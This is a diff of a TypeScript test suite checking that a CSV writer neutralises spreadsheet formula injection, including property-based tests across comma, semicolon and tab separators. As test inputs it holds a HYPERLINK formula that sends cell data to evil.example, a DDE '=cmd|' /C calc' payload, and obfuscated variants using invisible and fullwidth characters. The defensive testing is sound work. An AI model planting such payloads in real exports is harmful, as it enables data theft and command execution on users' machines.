@@ -23,23 +23,51 @@ function parse(line: string): string[] {
   }
 }
 
+/** As spreadsheets do that were told another separator: what stands after a closing quote belongs to the cell. */
+function readLoosely(text: string, separator: string): string[] {
+  const cells: string[] = []
+  let cell = ''
+  let isQuoted = false
+  for (let at = 0; at < text.length; at += 1) {
+    const char = text[at] ?? ''
+    const isQuote = char === '"'
+    if (isQuoted && isQuote && text[at + 1] === '"') {
+      cell += char
+      at += 1
+    } else if (isQuote && (isQuoted || cell === '')) isQuoted = !isQuoted
+    else if (!isQuoted && [separator, '\r', '\n'].includes(char)) {
+      cells.push(cell)
+      cell = ''
+    } else cell += char
+  }
+  return [...cells, cell]
+}
+
 describe('a line of CSV', () => {
   it.each([
-    '=HYPERLINK("https://evil.example?"&A1,"open")',
-    "=cmd|' /C calc'!A0",
-    '+1+1',
-    '-2+3',
-    '@SUM(A1:A9)',
-    '\t=1+1',
-    '\r=1+1',
-    '\n=1+1',
-    ' =1+1',
-    '＝1+1',
-    '＠SUM(1)',
-  ])('shows %j as text', (text) => {
+    ['=HYPERLINK("https://evil.example?"&A1,"open")', '\'=HYPERLINK("https://evil.example?"&A1,"open")'],
+    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+    ['+1+1', "'+1+1"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\t=1+1', "\t'=1+1"],
+    ['\r=1+1', "\r'=1+1"],
+    ['\n=1+1', "\n'=1+1"],
+    [' =1+1', " '=1+1"],
+    ['\u200b=1+1', "\u200b'=1+1"],
+    ['\ufeff\u0001=1+1', "\ufeff\u0001'=1+1"],
+    ['＝1+1', "'＝1+1"],
+    ['＠SUM(1)', "'＠SUM(1)"],
+    ['﹦1', "'﹦1"],
+    ['﹢1', "'﹢1"],
+    ['﹣1', "'﹣1"],
+    ['﹫1', "'﹫1"],
+    ["Lamp;=cmd|' /C calc'!A0;", "Lamp;'=cmd|' /C calc'!A0;"],
+    ['Lamp; \t"=1;a-b', 'Lamp; \t"\'=1;a-b'],
+  ])('shows %j as text', (text, shown) => {
     const line = csvLine(['a', text, 'b'])
-    expect(line).toMatch(/^a,"'/)
-    expect(parse(line)).toEqual(['a', `'${text}`, 'b'])
+    expect(line).toMatch(/^a,"/)
+    expect(parse(line)).toEqual(['a', shown, 'b'])
   })
 
   it('leaves what is plain as it is', () => {
@@ -48,14 +76,26 @@ describe('a line of CSV', () => {
     )
   })
 
-  it('gives back whatever was written, in as many cells, none of which begins like a formula', () => {
-    const text = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",; ab\'1'), maxLength: 8 })
+  const bits = [...'=+-@\t\r\n",; ab\'1＝﹫\u200b\u0001\u2028']
+  const cellText = fc.string({ unit: fc.constantFrom(...bits), maxLength: 8 })
+  const cellTexts = fc.array(cellText, { minLength: 1, maxLength: 5 })
+
+  it('gives back whatever was written, in as many cells', () => {
+    const bare = (cell: string) => cell.replaceAll("'", '')
     fc.assert(
-      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (cells) => {
-        const read = parse(csvLine(cells))
-        expect(read.map((cell, index) => (cell === `'${cells[index]}` ? cells[index] : cell))).toEqual(cells)
-        for (const cell of read) expect(cell).not.toMatch(/^\s*[=+\-@\t\r\n]/)
+      fc.property(cellTexts, (cells) => {
+        expect(parse(csvLine(cells)).map(bare)).toEqual(cells.map(bare))
       }),
+    )
+  })
+
+  it.each([',', ';', '\t'])('has no cell that begins like a formula where cells are parted by %j', (by) => {
+    fc.assert(
+      fc.property(cellTexts, (cells) => {
+        for (const cell of readLoosely(csvLine(cells), by))
+          expect(cell).not.toMatch(/^[\s"\p{Cf}\p{Cc}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u)
+      }),
+      { numRuns: 1_000 },
     )
   })
 })
